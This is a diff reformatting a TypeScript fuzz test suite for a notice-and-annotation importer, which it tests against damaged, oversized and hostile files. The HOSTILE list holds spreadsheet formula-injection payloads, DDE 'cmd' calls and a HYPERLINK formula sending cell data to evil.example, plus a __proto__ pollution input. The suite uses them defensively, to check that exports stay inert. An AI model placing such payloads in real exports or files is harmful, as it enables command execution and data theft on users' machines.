@@ -59,7 +59,7 @@ const HOSTILE = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
   "+1+cmd|' /C calc'!A0",
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
@@ -102,7 +102,8 @@ function placeOf(keys: Array<string | number>): { place: Failure['place']; inner
   if (keys[0] === 'first' && keys[1] === 'items' && typeof keys[2] === 'number') {
     return { place: { kind: 'annotation', index: keys[2] }, inner: pathText(keys.slice(3)) };
   }
-  if (keys[0] === 'nl:notices' && typeof keys[1] === 'number') return { place: { kind: 'notice', index: keys[1] }, inner: pathText(keys.slice(2)) };
+  if (keys[0] === 'nl:notices' && typeof keys[1] === 'number')
+    return { place: { kind: 'notice', index: keys[1] }, inner: pathText(keys.slice(2)) };
   return { place: { kind: 'file' }, inner: pathText(keys) };
 }
 
@@ -119,15 +120,36 @@ function setAt(root: Json, keys: Array<string | number>, value: Json | undefined
 }
 
 /** Codes whose message does not print a field path (the file, or the item as a whole). */
-const PATHLESS = new Set(['too-large', 'invalid-json', 'not-object', 'wrong-context', 'duplicate-id', 'unknown-notice', 'total-mismatch', 'unsupported-version', 'paged']);
+const PATHLESS = new Set([
+  'too-large',
+  'invalid-json',
+  'not-object',
+  'wrong-context',
+  'duplicate-id',
+  'unknown-notice',
+  'total-mismatch',
+  'unsupported-version',
+  'paged',
+]);
 
 /** A refusal is clear: both messages are there, name the item, and print the field they name. */
 function messageProblems(f: Failure): string[] {
   const problems: string[] = [];
   if (f.error.trim() === '' || f.errorEn.trim() === '') problems.push(`empty message for ${f.code}`);
-  const zh = f.place.kind === 'annotation' ? `第 ${f.place.index + 1} 条批注：` : f.place.kind === 'notice' ? `第 ${f.place.index + 1} 篇公文：` : '';
-  const en = f.place.kind === 'annotation' ? `annotation ${f.place.index + 1}: ` : f.place.kind === 'notice' ? `notice ${f.place.index + 1}: ` : '';
-  if (!f.error.startsWith(zh) || !f.errorEn.startsWith(en)) problems.push(`message does not start with its item: ${f.error}`);
+  const zh =
+    f.place.kind === 'annotation'
+      ? `第 ${f.place.index + 1} 条批注：`
+      : f.place.kind === 'notice'
+        ? `第 ${f.place.index + 1} 篇公文：`
+        : '';
+  const en =
+    f.place.kind === 'annotation'
+      ? `annotation ${f.place.index + 1}: `
+      : f.place.kind === 'notice'
+        ? `notice ${f.place.index + 1}: `
+        : '';
+  if (!f.error.startsWith(zh) || !f.errorEn.startsWith(en))
+    problems.push(`message does not start with its item: ${f.error}`);
   if (f.path !== '' && !PATHLESS.has(f.code) && (!f.error.includes(f.path) || !f.errorEn.includes(f.path))) {
     problems.push(`message does not name ${f.path}: ${f.error}`);
   }
@@ -192,13 +214,15 @@ function exportProblems(result: Extract<ImportResult, { ok: true }>): string[] {
     if (placed.error) problems.push(`anchorSelectors threw ${String(placed.error)}`);
     if (placed.ms > ORDINARY_MS) problems.push(`anchorSelectors took ${Math.round(placed.ms)} ms of CPU`);
     const span = placed.value;
-    if (span && !(0 <= span.start && span.start <= span.end && span.end <= notice.text.length)) problems.push(`anchored outside the text: ${span.start}-${span.end}`);
+    if (span && !(0 <= span.start && span.start <= span.end && span.end <= notice.text.length))
+      problems.push(`anchored outside the text: ${span.start}-${span.end}`);
   }
   const list = exportItems(result.notices, result.annotations);
   const csv = timed(() => toCsv(list));
   if (csv.error) problems.push(`toCsv threw ${String(csv.error)}`);
   for (const cell of csvCells(csv.value ?? '').slice(13)) {
-    if (/^[=+\-@\t\r]/.test(cell)) problems.push(`CSV: a cell starts with a formula character: ${JSON.stringify(cell.slice(0, 60))}`);
+    if (/^[=+\-@\t\r]/.test(cell))
+      problems.push(`CSV: a cell starts with a formula character: ${JSON.stringify(cell.slice(0, 60))}`);
   }
   const md = timed(() => toMarkdown(list));
   if (md.error) problems.push(`toMarkdown threw ${String(md.error)}`);
@@ -209,7 +233,8 @@ function exportProblems(result: Extract<ImportResult, { ok: true }>): string[] {
     const again = parseImportFile(json.value!);
     if (!again.ok) problems.push(`our own export of accepted data is refused: ${again.error}`);
     else {
-      const same = JSON.stringify([again.notices, again.annotations]) === JSON.stringify([result.notices, result.annotations]);
+      const same =
+        JSON.stringify([again.notices, again.annotations]) === JSON.stringify([result.notices, result.annotations]);
       if (!same) problems.push('the accepted data does not import back equal from its own export');
     }
   }
@@ -225,7 +250,8 @@ function strings(v: unknown, out: string[] = []): string[] {
 }
 
 /** Fields the importer reads and checks but does not keep (the W3C wrapping, our stylesheet, the source IRI). */
-const NOT_KEPT = /^(?:@context|type|label|total|nl:formatVersion|first\.type|first\.startIndex)|(?:^|\.)(?:type|motivation|stylesheet|purpose|format|language|created|modified|nl:deletedAt)(?:$|[.[])|^first\.items\[\d+\]\.(?:target\.source|target\.styleClass|id)$/;
+const NOT_KEPT =
+  /^(?:@context|type|label|total|nl:formatVersion|first\.type|first\.startIndex)|(?:^|\.)(?:type|motivation|stylesheet|purpose|format|language|created|modified|nl:deletedAt)(?:$|[.[])|^first\.items\[\d+\]\.(?:target\.source|target\.styleClass|id)$/;
 
 /* ----- The library store ----- */
 
@@ -249,7 +275,9 @@ async function importFile(repo: NoticeRepository, text: string): Promise<{ refus
 /** JSON with object keys sorted, to compare records whatever order their fields were written in. */
 function canon(v: unknown): string {
   return JSON.stringify(v, (_k, x) =>
-    x && typeof x === 'object' && !Array.isArray(x) ? Object.fromEntries(Object.entries(x).sort(([a], [b]) => (a < b ? -1 : 1))) : x,
+    x && typeof x === 'object' && !Array.isArray(x)
+      ? Object.fromEntries(Object.entries(x).sort(([a], [b]) => (a < b ? -1 : 1)))
+      : x,
   );
 }
 
@@ -263,14 +291,25 @@ async function storedProblems(repo: NoticeRepository, result: Extract<ImportResu
       continue;
     }
     const want = { ...n, tags: normaliseTags(n.tags) };
-    for (const key of ['metadata', 'text', 'outline', 'obligations', 'site', 'saved', 'tags', 'createdAt', 'updatedAt'] as const) {
+    for (const key of [
+      'metadata',
+      'text',
+      'outline',
+      'obligations',
+      'site',
+      'saved',
+      'tags',
+      'createdAt',
+      'updatedAt',
+    ] as const) {
       if (canon(stored[key]) !== canon(want[key])) problems.push(`notice ${n.id}: stored ${key} differs from the file`);
     }
     const annotations = await repo.listAnnotations(n.id, { includeDeleted: true });
     for (const a of result.annotations.filter((x) => x.noticeId === n.id)) {
       const s = annotations.find((x) => x.id === a.id);
       if (!s) problems.push(`annotation ${a.id} not stored`);
-      else if (canon(s) !== canon({ ...a, tags: normaliseTags(a.tags) })) problems.push(`annotation ${a.id}: stored differs from the file`);
+      else if (canon(s) !== canon({ ...a, tags: normaliseTags(a.tags) }))
+        problems.push(`annotation ${a.id}: stored differs from the file`);
     }
   }
   return problems;
@@ -291,212 +330,276 @@ describe('import fuzz: the checks themselves', () => {
 });
 
 describe('import fuzz: damaged files', () => {
-  it('the export truncated at every 1/50th is refused as invalid JSON, saying where and that it may be truncated', () => {
-    const failures = runCases('truncated at k/50', 2_000_000, 49, (r, _seed, i) => {
-      // Every 1/50th first; in a larger run, random points after that. Every other one with a BOM.
-      const at = i < 49 ? Math.floor((EXPORT_TEXT.length * (i + 1)) / 50) : r.int(EXPORT_TEXT.trimEnd().length);
-      const cut = EXPORT_TEXT.slice(0, at);
-      const problems: string[] = [];
-      const run = timed(() => parseImportFile(i % 2 === 0 ? `\uFEFF${cut}` : cut));
-      if (run.error) return [`threw ${String(run.error)}`];
-      if (run.ms > 2_000) problems.push(`took ${Math.round(run.ms)} ms of CPU`);
-      const result = run.value!;
-      if (result.ok) return [`a file cut at ${cut.length} of ${EXPORT_TEXT.length} was accepted`];
-      if (result.code !== 'invalid-json') problems.push(`refused as ${result.code}, not invalid-json`);
-      const lines = cut.split('\n');
-      if (!result.error.includes(`第 ${lines.length} 行`) || !/截断/.test(result.error) || !/truncated/.test(result.errorEn)) {
-        problems.push(`message does not give the last line or say truncated: ${result.error}`);
-      }
-      return [...problems, ...messageProblems(result)];
-    });
-    expect(failures).toEqual([]);
-  }, timeout(120_000));
+  it(
+    'the export truncated at every 1/50th is refused as invalid JSON, saying where and that it may be truncated',
+    () => {
+      const failures = runCases('truncated at k/50', 2_000_000, 49, (r, _seed, i) => {
+        // Every 1/50th first; in a larger run, random points after that. Every other one with a BOM.
+        const at = i < 49 ? Math.floor((EXPORT_TEXT.length * (i + 1)) / 50) : r.int(EXPORT_TEXT.trimEnd().length);
+        const cut = EXPORT_TEXT.slice(0, at);
+        const problems: string[] = [];
+        const run = timed(() => parseImportFile(i % 2 === 0 ? `\uFEFF${cut}` : cut));
+        if (run.error) return [`threw ${String(run.error)}`];
+        if (run.ms > 2_000) problems.push(`took ${Math.round(run.ms)} ms of CPU`);
+        const result = run.value!;
+        if (result.ok) return [`a file cut at ${cut.length} of ${EXPORT_TEXT.length} was accepted`];
+        if (result.code !== 'invalid-json') problems.push(`refused as ${result.code}, not invalid-json`);
+        const lines = cut.split('\n');
+        if (
+          !result.error.includes(`第 ${lines.length} 行`) ||
+          !/截断/.test(result.error) ||
+          !/truncated/.test(result.errorEn)
+        ) {
+          problems.push(`message does not give the last line or say truncated: ${result.error}`);
+        }
+        return [...problems, ...messageProblems(result)];
+      });
+      expect(failures).toEqual([]);
+    },
+    timeout(120_000),
+  );
 
-  it('every field given a value of a wrong type, or removed, is refused naming the item and field (or accepted and consistent)', () => {
-    const all = leaves(EXPORT);
-    const WRONG: Array<[string, Json | undefined]> = [
-      ['null', null], ['number', 7], ['negative', -1], ['fraction', 0.5], ['a billion', 1e9], ['huge number', 1e308],
-      ['string', 'x'], ['empty string', ''], ['long string', '长'.repeat(30_000)],
-      ['boolean', true], ['array', []], ['object', {}], ['removed', undefined],
-      ['array nested 20,000 deep', JSON.parse(`${'['.repeat(20_000)}"x"${']'.repeat(20_000)}`)],
-      ['object nested 20,000 deep', JSON.parse(`${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`)],
-      ['a long array', Array.from({ length: 200_000 }, (_, i) => i)],
-      ['__proto__ key', JSON.parse('{"__proto__": {"polluted": 1}, "type": "x"}')],
-    ];
-    const size = (v: Json) => (Array.isArray(v) ? v.length : v !== null && typeof v === 'object' ? Object.keys(v).length : -1);
-    /** No change: the same primitive, or an empty list or object for an empty one (never stringified: some are 20,000 deep). */
-    const sameValue = (a: Json, b: Json) =>
-      a === b || (typeof a === 'object' && typeof b === 'object' && a !== null && b !== null && Array.isArray(a) === Array.isArray(b) && size(a) === 0 && size(b) === 0);
-    const failures = runCases('wrong type in a field', 2_100_000, all.length * 2, (r, _seed, i) => {
-      const leaf = all[i % all.length];
-      let [name, value] = r.pick(WRONG);
-      while (value !== undefined && sameValue(value, leaf.value)) [name, value] = r.pick(WRONG);
-      const json = setAt(clone(), leaf.keys, value);
-      const where = `${pathText(leaf.keys)} ← ${name}`;
-      const res = timed(() => fromW3C(json));
-      if (res.error) return [`${where}: threw ${String(res.error)}`];
-      const result = res.value!;
-      if (!result.ok) {
+  it(
+    'every field given a value of a wrong type, or removed, is refused naming the item and field (or accepted and consistent)',
+    () => {
+      const all = leaves(EXPORT);
+      const WRONG: Array<[string, Json | undefined]> = [
+        ['null', null],
+        ['number', 7],
+        ['negative', -1],
+        ['fraction', 0.5],
+        ['a billion', 1e9],
+        ['huge number', 1e308],
+        ['string', 'x'],
+        ['empty string', ''],
+        ['long string', '长'.repeat(30_000)],
+        ['boolean', true],
+        ['array', []],
+        ['object', {}],
+        ['removed', undefined],
+        ['array nested 20,000 deep', JSON.parse(`${'['.repeat(20_000)}"x"${']'.repeat(20_000)}`)],
+        ['object nested 20,000 deep', JSON.parse(`${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`)],
+        ['a long array', Array.from({ length: 200_000 }, (_, i) => i)],
+        ['__proto__ key', JSON.parse('{"__proto__": {"polluted": 1}, "type": "x"}')],
+      ];
+      const size = (v: Json) =>
+        Array.isArray(v) ? v.length : v !== null && typeof v === 'object' ? Object.keys(v).length : -1;
+      /** No change: the same primitive, or an empty list or object for an empty one (never stringified: some are 20,000 deep). */
+      const sameValue = (a: Json, b: Json) =>
+        a === b ||
+        (typeof a === 'object' &&
+          typeof b === 'object' &&
+          a !== null &&
+          b !== null &&
+          Array.isArray(a) === Array.isArray(b) &&
+          size(a) === 0 &&
+          size(b) === 0);
+      const failures = runCases('wrong type in a field', 2_100_000, all.length * 2, (r, _seed, i) => {
+        const leaf = all[i % all.length];
+        let [name, value] = r.pick(WRONG);
+        while (value !== undefined && sameValue(value, leaf.value)) [name, value] = r.pick(WRONG);
+        const json = setAt(clone(), leaf.keys, value);
+        const where = `${pathText(leaf.keys)} ← ${name}`;
+        const res = timed(() => fromW3C(json));
+        if (res.error) return [`${where}: threw ${String(res.error)}`];
+        const result = res.value!;
+        if (!result.ok) {
+          const problems = messageProblems(result);
+          if (!namesPlace(result, leaf.keys))
+            problems.push(
+              `refusal names ${result.place.kind} ${'index' in result.place ? result.place.index : ''} ${result.path}: ${result.error}`,
+            );
+          return problems.map((p) => `${where}: ${p}`);
+        }
+        return exportProblems(result).map((p) => `${where} accepted: ${p}`);
+      });
+      expect(failures).toEqual([]);
+    },
+    timeout(120_000),
+  );
+
+  it(
+    'duplicated ids are refused naming the id and both items',
+    () => {
+      const failures = runCases('duplicated id', 2_200_000, 60, (r) => {
+        const json = clone() as Record<string, any>;
+        const annotations = json.first.items as Json[];
+        const notices = json['nl:notices'] as Json[];
+        const kind = r.int(3);
+        if (kind === 0) {
+          const a = r.int(annotations.length);
+          annotations.splice(r.int(annotations.length + 1), 0, JSON.parse(JSON.stringify(annotations[a])));
+          json.total = annotations.length;
+        } else if (kind === 1) {
+          const n = r.int(notices.length);
+          notices.splice(r.int(notices.length + 1), 0, JSON.parse(JSON.stringify(notices[n])));
+        } else {
+          // The same id written two ways: as a urn:uuid: IRI and bare.
+          const a = annotations[r.int(annotations.length)] as Record<string, Json>;
+          const copy = JSON.parse(JSON.stringify(a)) as Record<string, Json>;
+          copy.id = String(a.id).replace(/^urn:uuid:/, '');
+          annotations.push(copy);
+          json.total = annotations.length;
+        }
+        const result = fromW3C(json);
+        if (result.ok) return ['a file with a duplicated id was accepted'];
         const problems = messageProblems(result);
-        if (!namesPlace(result, leaf.keys)) problems.push(`refusal names ${result.place.kind} ${'index' in result.place ? result.place.index : ''} ${result.path}: ${result.error}`);
-        return problems.map((p) => `${where}: ${p}`);
-      }
-      return exportProblems(result).map((p) => `${where} accepted: ${p}`);
-    });
-    expect(failures).toEqual([]);
-  }, timeout(120_000));
+        if (result.code !== 'duplicate-id') problems.push(`refused as ${result.code}: ${result.error}`);
+        else if (!/另见第 \d+ (条批注|篇公文)/.test(result.error))
+          problems.push(`the other item is not named: ${result.error}`);
+        return problems;
+      });
+      expect(failures).toEqual([]);
+    },
+    timeout(120_000),
+  );
 
-  it('duplicated ids are refused naming the id and both items', () => {
-    const failures = runCases('duplicated id', 2_200_000, 60, (r) => {
-      const json = clone() as Record<string, any>;
-      const annotations = json.first.items as Json[];
-      const notices = json['nl:notices'] as Json[];
-      const kind = r.int(3);
-      if (kind === 0) {
-        const a = r.int(annotations.length);
-        annotations.splice(r.int(annotations.length + 1), 0, JSON.parse(JSON.stringify(annotations[a])));
-        json.total = annotations.length;
-      } else if (kind === 1) {
-        const n = r.int(notices.length);
-        notices.splice(r.int(notices.length + 1), 0, JSON.parse(JSON.stringify(notices[n])));
-      } else {
-        // The same id written two ways: as a urn:uuid: IRI and bare.
-        const a = annotations[r.int(annotations.length)] as Record<string, Json>;
-        const copy = JSON.parse(JSON.stringify(a)) as Record<string, Json>;
-        copy.id = String(a.id).replace(/^urn:uuid:/, '');
-        annotations.push(copy);
-        json.total = annotations.length;
-      }
-      const result = fromW3C(json);
-      if (result.ok) return ['a file with a duplicated id was accepted'];
-      const problems = messageProblems(result);
-      if (result.code !== 'duplicate-id') problems.push(`refused as ${result.code}: ${result.error}`);
-      else if (!/另见第 \d+ (条批注|篇公文)/.test(result.error)) problems.push(`the other item is not named: ${result.error}`);
-      return problems;
-    });
-    expect(failures).toEqual([]);
-  }, timeout(120_000));
-
-  it('a file over the 100 MB limit is refused by its size at once, without being parsed', () => {
-    const failures = runCases('over 100 MB', 2_300_000, 2, (_r, _seed, i) => {
-      // ASCII over the limit in characters, or Han under it in characters but over it in UTF-8 bytes.
-      const text =
-        i % 2 === 0
-          ? `{"first": {"items": [${'{"x": 1}, '.repeat(Math.ceil(DEFAULT_MAX_IMPORT_BYTES / 10))}`
-          : `{"label": "${'汉'.repeat(Math.ceil(DEFAULT_MAX_IMPORT_BYTES / 3) + 1)}"}`;
-      const r = timed(() => parseImportFile(text));
-      const problems: string[] = [];
-      if (r.error) return [`threw ${String(r.error)}`];
-      if (r.ms > 2_000) problems.push(`took ${Math.round(r.ms)} ms of CPU to refuse ${text.length} characters`);
-      const result = r.value!;
-      if (result.ok || result.code !== 'too-large') return [`not refused for its size: ${result.ok ? 'accepted' : result.error}`];
-      if (!/^文件过大（至少 \d+ 字节，上限 104857600 字节），未读取$/.test(result.error)) problems.push(`unclear message: ${result.error}`);
-      return [...problems, ...messageProblems(result)];
-    });
-    expect(failures).toEqual([]);
-  }, timeout(120_000));
+  it(
+    'a file over the 100 MB limit is refused by its size at once, without being parsed',
+    () => {
+      const failures = runCases('over 100 MB', 2_300_000, 2, (_r, _seed, i) => {
+        // ASCII over the limit in characters, or Han under it in characters but over it in UTF-8 bytes.
+        const text =
+          i % 2 === 0
+            ? `{"first": {"items": [${'{"x": 1}, '.repeat(Math.ceil(DEFAULT_MAX_IMPORT_BYTES / 10))}`
+            : `{"label": "${'汉'.repeat(Math.ceil(DEFAULT_MAX_IMPORT_BYTES / 3) + 1)}"}`;
+        const r = timed(() => parseImportFile(text));
+        const problems: string[] = [];
+        if (r.error) return [`threw ${String(r.error)}`];
+        if (r.ms > 2_000) problems.push(`took ${Math.round(r.ms)} ms of CPU to refuse ${text.length} characters`);
+        const result = r.value!;
+        if (result.ok || result.code !== 'too-large')
+          return [`not refused for its size: ${result.ok ? 'accepted' : result.error}`];
+        if (!/^文件过大（至少 \d+ 字节，上限 104857600 字节），未读取$/.test(result.error))
+          problems.push(`unclear message: ${result.error}`);
+        return [...problems, ...messageProblems(result)];
+      });
+      expect(failures).toEqual([]);
+    },
+    timeout(120_000),
+  );
 });
 
 describe('import fuzz: hostile strings', () => {
   const stringLeaves = leaves(EXPORT).filter((l) => typeof l.value === 'string');
 
-  it('markup, links and formulas in every string field: refused clearly, or kept verbatim and exported inert', () => {
-    const failures = runCases('hostile string in a field', 2_400_000, stringLeaves.length * 3, (r, _seed, i) => {
-      const leaf = stringLeaves[i % stringLeaves.length];
-      const hostile = r.chance(0.8) ? r.pick(HOSTILE) : `${leaf.value as string}${r.pick(HOSTILE)}`;
-      const json = setAt(clone(), leaf.keys, hostile);
-      const where = `${pathText(leaf.keys)} ← ${JSON.stringify(hostile).slice(0, 60)}`;
-      const res = timed(() => fromW3C(json));
-      if (res.error) return [`${where}: threw ${String(res.error)}`];
-      const result = res.value!;
-      if (!result.ok) {
-        const problems = messageProblems(result);
-        if (!namesPlace(result, leaf.keys)) problems.push(`refusal names ${result.path}: ${result.error}`);
+  it(
+    'markup, links and formulas in every string field: refused clearly, or kept verbatim and exported inert',
+    () => {
+      const failures = runCases('hostile string in a field', 2_400_000, stringLeaves.length * 3, (r, _seed, i) => {
+        const leaf = stringLeaves[i % stringLeaves.length];
+        const hostile = r.chance(0.8) ? r.pick(HOSTILE) : `${leaf.value as string}${r.pick(HOSTILE)}`;
+        const json = setAt(clone(), leaf.keys, hostile);
+        const where = `${pathText(leaf.keys)} ← ${JSON.stringify(hostile).slice(0, 60)}`;
+        const res = timed(() => fromW3C(json));
+        if (res.error) return [`${where}: threw ${String(res.error)}`];
+        const result = res.value!;
+        if (!result.ok) {
+          const problems = messageProblems(result);
+          if (!namesPlace(result, leaf.keys)) problems.push(`refusal names ${result.path}: ${result.error}`);
+          return problems.map((p) => `${where}: ${p}`);
+        }
+        const problems: string[] = [];
+        const kept = hostile.replace(CONTROL, '');
+        if (!NOT_KEPT.test(pathText(leaf.keys)) && !strings([result.notices, result.annotations]).includes(kept)) {
+          problems.push('accepted, but the string is not kept verbatim');
+        }
+        problems.push(...exportProblems(result));
         return problems.map((p) => `${where}: ${p}`);
-      }
-      const problems: string[] = [];
-      const kept = hostile.replace(CONTROL, '');
-      if (!NOT_KEPT.test(pathText(leaf.keys)) && !strings([result.notices, result.annotations]).includes(kept)) {
-        problems.push('accepted, but the string is not kept verbatim');
-      }
-      problems.push(...exportProblems(result));
-      return problems.map((p) => `${where}: ${p}`);
-    });
-    expect(failures).toEqual([]);
-  }, timeout(120_000));
+      });
+      expect(failures).toEqual([]);
+    },
+    timeout(120_000),
+  );
 });
 
 describe('import fuzz: through the library store', () => {
-  it('an accepted file is stored as it reads; a file refused by the importer or the store leaves the library as it was', async () => {
-    const { repo, db } = freshRepo();
-    const base = parseImportFile(EXPORT_TEXT);
-    if (!base.ok) throw new Error(`the base export is refused: ${base.error}`);
-    await importLibrary(repo, base.notices, base.annotations);
-    const before = await librarySnapshot(db);
-    const stringLeaves = leaves(EXPORT).filter((l) => typeof l.value === 'string');
-    const failures: string[] = [];
-    let accepted = 0;
-    let refusedByImporter = 0;
-    let refusedByStore = 0;
+  it(
+    'an accepted file is stored as it reads; a file refused by the importer or the store leaves the library as it was',
+    async () => {
+      const { repo, db } = freshRepo();
+      const base = parseImportFile(EXPORT_TEXT);
+      if (!base.ok) throw new Error(`the base export is refused: ${base.error}`);
+      await importLibrary(repo, base.notices, base.annotations);
+      const before = await librarySnapshot(db);
+      const stringLeaves = leaves(EXPORT).filter((l) => typeof l.value === 'string');
+      const failures: string[] = [];
+      let accepted = 0;
+      let refusedByImporter = 0;
+      let refusedByStore = 0;
 
-    const damaged = casesOf('store: a damaged or hostile file', 2_500_000, 80, (r) => {
-      const json = clone();
-      for (let k = r.between(1, 3); k > 0; k--) {
-        const leaf = r.pick(stringLeaves);
-        setAt(json, leaf.keys, r.chance(0.5) ? r.pick(HOSTILE) : r.pick<Json>([null, 1, [], {}, '', 'x'.repeat(r.between(1, 30_000))]));
+      const damaged = casesOf('store: a damaged or hostile file', 2_500_000, 80, (r) => {
+        const json = clone();
+        for (let k = r.between(1, 3); k > 0; k--) {
+          const leaf = r.pick(stringLeaves);
+          setAt(
+            json,
+            leaf.keys,
+            r.chance(0.5) ? r.pick(HOSTILE) : r.pick<Json>([null, 1, [], {}, '', 'x'.repeat(r.between(1, 30_000))]),
+          );
+        }
+        const text = JSON.stringify(json);
+        return r.chance(0.2) ? text.slice(0, r.int(text.length)) : text;
+      });
+      for (const { seed, input: text } of damaged) {
+        const parsed = parseImportFile(text);
+        if (parsed.ok) {
+          // Accepted: into an empty library, then compared field by field with what the importer read.
+          accepted++;
+          const fresh = freshRepo();
+          const empty = await librarySnapshot(fresh.db);
+          const outcome = await importFile(fresh.repo, text);
+          if (outcome.refused !== null) {
+            failures.push(`seed ${seed}: accepted by the importer, refused by the store: ${outcome.refused}`);
+            if ((await librarySnapshot(fresh.db)) !== empty)
+              failures.push(`seed ${seed}: the library changed after the store refused an import`);
+          } else failures.push(...(await storedProblems(fresh.repo, parsed)).map((p) => `seed ${seed}: ${p}`));
+          fresh.db.close();
+        } else {
+          refusedByImporter++;
+          const outcome = await importFile(repo, text);
+          if (outcome.refused === null) failures.push(`seed ${seed}: refused by the importer, yet stored`);
+          if ((await librarySnapshot(db)) !== before)
+            failures.push(`seed ${seed}: the library changed after a refused import`);
+        }
       }
-      const text = JSON.stringify(json);
-      return r.chance(0.2) ? text.slice(0, r.int(text.length)) : text;
-    });
-    for (const { seed, input: text } of damaged) {
-      const parsed = parseImportFile(text);
-      if (parsed.ok) {
-        // Accepted: into an empty library, then compared field by field with what the importer read.
-        accepted++;
-        const fresh = freshRepo();
-        const empty = await librarySnapshot(fresh.db);
-        const outcome = await importFile(fresh.repo, text);
-        if (outcome.refused !== null) {
-          failures.push(`seed ${seed}: accepted by the importer, refused by the store: ${outcome.refused}`);
-          if ((await librarySnapshot(fresh.db)) !== empty) failures.push(`seed ${seed}: the library changed after the store refused an import`);
-        } else failures.push(...(await storedProblems(fresh.repo, parsed)).map((p) => `seed ${seed}: ${p}`));
-        fresh.db.close();
-      } else {
-        refusedByImporter++;
+
+      // Files the importer takes and the store refuses: an annotation already in the library moved to another
+      // notice (a conflict) among newer, hostile copies of every notice. The whole import must be undone.
+      const conflicts = casesOf('store: an annotation moved to another notice', 2_600_000, 20, (r) => {
+        const json = clone() as Record<string, any>;
+        const ids = (json['nl:notices'] as Array<{ id: string }>).map((n) => n.id);
+        const item = json.first.items[r.int(json.first.items.length)];
+        item.target['nl:noticeId'] = r.pick(ids.filter((id) => id !== item.target['nl:noticeId']));
+        item.modified = '2030-01-01T00:00:00.000Z';
+        for (const n of json['nl:notices'] as Array<{ updatedAt: number; text: string }>) {
+          n.updatedAt = 1_900_000_000_000;
+          n.text += r.pick(HOSTILE);
+        }
+        return JSON.stringify(json);
+      });
+      for (const { seed, input: text } of conflicts) {
+        if (!parseImportFile(text).ok) {
+          failures.push(`seed ${seed}: refused by the importer`);
+          continue;
+        }
         const outcome = await importFile(repo, text);
-        if (outcome.refused === null) failures.push(`seed ${seed}: refused by the importer, yet stored`);
-        if ((await librarySnapshot(db)) !== before) failures.push(`seed ${seed}: the library changed after a refused import`);
+        if (outcome.refused === null) failures.push(`seed ${seed}: an annotation moved to another notice was stored`);
+        else refusedByStore++;
+        if ((await librarySnapshot(db)) !== before)
+          failures.push(`seed ${seed}: the library changed after the store refused an import`);
       }
-    }
-
-    // Files the importer takes and the store refuses: an annotation already in the library moved to another
-    // notice (a conflict) among newer, hostile copies of every notice. The whole import must be undone.
-    const conflicts = casesOf('store: an annotation moved to another notice', 2_600_000, 20, (r) => {
-      const json = clone() as Record<string, any>;
-      const ids = (json['nl:notices'] as Array<{ id: string }>).map((n) => n.id);
-      const item = json.first.items[r.int(json.first.items.length)];
-      item.target['nl:noticeId'] = r.pick(ids.filter((id) => id !== item.target['nl:noticeId']));
-      item.modified = '2030-01-01T00:00:00.000Z';
-      for (const n of json['nl:notices'] as Array<{ updatedAt: number; text: string }>) {
-        n.updatedAt = 1_900_000_000_000;
-        n.text += r.pick(HOSTILE);
+      db.close();
+      if (
+        damaged.length + conflicts.length >= 100 &&
+        (accepted === 0 || refusedByImporter === 0 || refusedByStore === 0)
+      ) {
+        failures.push(
+          `not every path was taken: ${accepted} accepted, ${refusedByImporter} refused by the importer, ${refusedByStore} by the store`,
+        );
       }
-      return JSON.stringify(json);
-    });
-    for (const { seed, input: text } of conflicts) {
-      if (!parseImportFile(text).ok) {
-        failures.push(`seed ${seed}: refused by the importer`);
-        continue;
-      }
-      const outcome = await importFile(repo, text);
-      if (outcome.refused === null) failures.push(`seed ${seed}: an annotation moved to another notice was stored`);
-      else refusedByStore++;
-      if ((await librarySnapshot(db)) !== before) failures.push(`seed ${seed}: the library changed after the store refused an import`);
-    }
-    db.close();
-    if (damaged.length + conflicts.length >= 100 && (accepted === 0 || refusedByImporter === 0 || refusedByStore === 0)) {
-      failures.push(`not every path was taken: ${accepted} accepted, ${refusedByImporter} refused by the importer, ${refusedByStore} by the store`);
-    }
-    expect(failures).toEqual([]);
-  }, timeout(120_000));
+      expect(failures).toEqual([]);
+    },
+    timeout(120_000),
+  );
 });
